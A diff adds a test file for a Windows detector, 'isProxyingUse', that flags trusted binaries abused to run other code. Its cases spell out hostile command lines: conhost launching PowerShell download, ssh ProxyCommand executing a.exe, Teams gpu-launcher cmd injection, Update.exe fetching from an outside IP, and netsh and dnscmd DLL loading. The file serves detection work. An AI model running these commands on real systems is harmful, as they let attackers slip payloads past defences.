@@ -1,0 +1,61 @@
+import { describe, expect, test } from 'vitest'
+import { isProxyingUse } from './proxying-use'
+
+const TEAMS = 'C:\\Users\\ann\\AppData\\Local\\Microsoft\\Teams'
+
+describe('a program that everybody uses all day', () => {
+  test.each([
+    ['conhost.exe', 'conhost.exe --headless powershell -c "iwr x"', 'C:\\Windows\\System32\\conhost.exe'],
+    ['conhost.exe', 'conhost.exe C:\\Users\\Public\\a.exe', 'C:\\Windows\\System32\\conhost.exe'],
+    ['ssh.exe', 'ssh.exe -o ProxyCommand="C:\\Temp\\a.exe" .', 'C:\\Windows\\System32\\OpenSSH\\ssh.exe'],
+    [
+      'teams.exe',
+      `${TEAMS}\\current\\Teams.exe --gpu-launcher="cmd /c a &&"`,
+      `${TEAMS}\\current\\Teams.exe`,
+    ],
+    ['update.exe', `${TEAMS}\\Update.exe --processStart payload.exe`, `${TEAMS}\\Update.exe`],
+    ['update.exe', `${TEAMS}\\Update.exe --update=http://203.0.113.7/a`, `${TEAMS}\\Update.exe`],
+    ['netsh.exe', 'netsh add helper C:\\Temp\\a.dll', 'C:\\Windows\\System32\\netsh.exe'],
+    ['dnscmd.exe', 'dnscmd . /config /serverlevelplugindll C:\\a.dll', 'C:\\Windows\\System32\\dnscmd.exe'],
+    ['explorer.exe', 'explorer.exe /root,"C:\\Windows\\System32\\calc.exe"', 'C:\\Windows\\explorer.exe'],
+    [
+      'winword.exe',
+      'winword.exe /l C:\\Users\\ann\\a.dll',
+      'C:\\Program Files\\Microsoft Office\\winword.exe',
+    ],
+  ])('counts where it is made to run other code: %s %s', (slug, commandLine, image) => {
+    expect(isProxyingUse(slug, commandLine, image)).toBe(true)
+  })
+
+  test.each([
+    [
+      'conhost.exe',
+      '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
+      'C:\\Windows\\System32\\conhost.exe',
+    ],
+    [
+      'conhost.exe',
+      'conhost.exe --headless --width 80 --height 24 --signal 0x4 --server 0x8',
+      'C:\\Windows\\System32\\conhost.exe',
+    ],
+    ['ssh.exe', 'ssh -o ProxyCommand="ssh -W %h:%p gate" host', 'C:\\Windows\\System32\\OpenSSH\\ssh.exe'],
+    ['update.exe', `${TEAMS}\\Update.exe --processStart "Teams.exe"`, `${TEAMS}\\Update.exe`],
+    ['msedge.exe', 'msedge.exe --type=gpu-process', 'C:\\Program Files (x86)\\Microsoft\\Edge\\msedge.exe'],
+    ['netsh.exe', 'netsh advfirewall show allprofiles', 'C:\\Windows\\System32\\netsh.exe'],
+    ['explorer.exe', 'C:\\Windows\\explorer.exe', 'C:\\Windows\\explorer.exe'],
+    [
+      'winword.exe',
+      'WINWORD.EXE /n "C:\\Users\\ann\\a.docx"',
+      'C:\\Program Files\\Microsoft Office\\winword.exe',
+    ],
+    ['rundll32.exe', 'rundll32.exe C:\\Temp\\a.dll,Run', 'C:\\Windows\\System32\\rundll32.exe'],
+    ['conhost.exe', null, 'C:\\Windows\\System32\\conhost.exe'],
+  ])('does not count otherwise: %s %s', (slug, commandLine, image) => {
+    expect(isProxyingUse(slug, commandLine, image)).toBe(false)
+  })
+
+  test('is read from 32 kB of hostile text without delay', () => {
+    const hostile = `ssh.exe ${'proxycommand= %'.repeat(2000)}`
+    expect(isProxyingUse('ssh.exe', hostile, 'C:\\Windows\\System32\\OpenSSH\\ssh.exe')).toBe(true)
+  })
+})
